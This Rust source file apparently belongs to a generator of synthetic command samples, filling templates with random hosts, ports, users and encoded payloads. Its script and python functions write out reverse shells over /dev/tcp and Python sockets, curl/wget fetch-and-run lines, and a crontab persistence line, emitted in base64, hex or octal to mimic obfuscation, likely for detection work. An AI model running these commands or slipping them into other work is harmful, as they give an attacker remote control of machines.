//! Command templates with placeholders: `«name»` is drawn for each command, `«a|b|c»` is one of the three.

use crate::generate::{json::hex, random::Random};

/// Fills the placeholders of a template. `host` replaces `«host»`.
pub fn fill(template: &str, random: &mut Random, host: &str) -> String {
    let mut filled = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some((before, after)) = rest.split_once('«') {
        filled.push_str(before);
        let (gap, after) = after.split_once('»').unwrap_or((after, ""));
        filled.push_str(&gap_of(gap, random, host));
        rest = after;
    }
    filled.push_str(rest);
    filled
}

fn gap_of(gap: &str, random: &mut Random, host: &str) -> String {
    if gap.contains('|') {
        let choices: Vec<&str> = gap.split('|').collect();
        return (*random.pick(&choices)).to_owned();
    }
    match gap {
        "host" => host.to_owned(),
        "ip" => format!("{}.{}", random.pick(&["192.0.2", "198.51.100", "203.0.113"]), 1 + random.below(254)),
        "lan" => match random.below(3) {
            0 => format!("10.{}.{}.{}", random.below(256), random.below(256), 1 + random.below(254)),
            1 => format!("172.{}.{}.{}", 16 + random.below(16), random.below(256), 1 + random.below(254)),
            _ => format!("192.168.{}.{}", random.below(256), 1 + random.below(254)),
        },
        "name" => name(random),
        "n" => (1 + random.below(9_999)).to_string(),
        "d" => (1 + random.below(99)).to_string(),
        "port" => random
            .pick(&[22, 80, 443, 1080, 1337, 3128, 3306, 4444, 5432, 6379, 8080, 8443, 9001, 31_337])
            .to_string(),
        "hex" => hex(random.bits(), 8),
        "key" => hex(random.bits(), 64),
        "user" => (*random.pick(&[
            "root", "admin", "ubuntu", "backup", "deploy", "svc", "oracle", "pi", "www-data", "postgres",
        ]))
        .to_owned(),
        "script" => base64(script(random, host).as_bytes()),
        "python" => base64(python(random, host).as_bytes()),
        "noise" => base64(&noise(random)),
        "escapes" => script(random, host).bytes().map(|byte| format!("\\x{byte:02x}")).collect(),
        "octal" => script(random, host).bytes().map(|byte| format!("\\{byte:03o}")).collect(),
        "elf" => noise(random).iter().map(|byte| format!("\\x{byte:02x}")).collect(),
        _ => String::new(),
    }
}

pub fn name(random: &mut Random) -> String {
    let n = 3 + random.below(7);
    (0..n).map(|_| *random.pick(b"abcdefghijklmnopqrstuvwxyz0123456789") as char).collect()
}

fn script(random: &mut Random, host: &str) -> String {
    let (name, port) = (name(random), 1_024 + random.below(60_000));
    match random.below(4) {
        0 => format!("cd /tmp;wget -q http://{host}:{port}/{name} -O .{name};chmod +x .{name};./.{name}"),
        1 => format!("#!/bin/sh\nexec 3<>/dev/tcp/{host}/{port};cat <&3|while read l;do $l 2>&3 >&3;done\n"),
        2 => {
            format!("(curl -fsSL http://{host}/{name}||wget -qO- http://{host}/{name})|sh >/dev/null 2>&1 &")
        }
        _ => format!("pkill -9 {name};echo '*/5 * * * * curl http://{host}/{name}|sh'|crontab -"),
    }
}

fn python(random: &mut Random, host: &str) -> String {
    let (name, port) = (name(random), 1_024 + random.below(60_000));
    match random.below(2) {
        0 => format!(
            "import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"
        ),
        _ => format!("import urllib.request as u;exec(u.urlopen('http://{host}:{port}/{name}').read())"),
    }
}

/// Bytes like those of packed programs.
fn noise(random: &mut Random) -> Vec<u8> {
    let n = 90 + random.below(900);
    (0..n).map(|_| random.bits() as u8).collect()
}

fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::with_capacity(bytes.len() * 4 / 3 + 4);
    for three in bytes.chunks(3) {
        let bits =
            three.iter().fold(0_u32, |bits, &byte| bits << 8 | u32::from(byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            text.push(if place <= three.len() {
                SIGNS[(bits >> (18 - 6 * place) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gaps_are_filled_and_the_rest_is_kept() {
        let mut random = Random::new(1, 1);
        assert_eq!(
            fill("awk '{print $4}' <«x|x» «host»/«nothing»", &mut random, "h"),
            "awk '{print $4}' <x h/"
        );
        assert_eq!(fill("open «", &mut random, ""), "open ");
    }

    #[test]
    fn base64_is_that_of_rfc_4648() {
        for (plain, coded) in
            [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foobar", "Zm9vYmFy")]
        {
            assert_eq!(base64(plain.as_bytes()), coded);
        }
    }
}
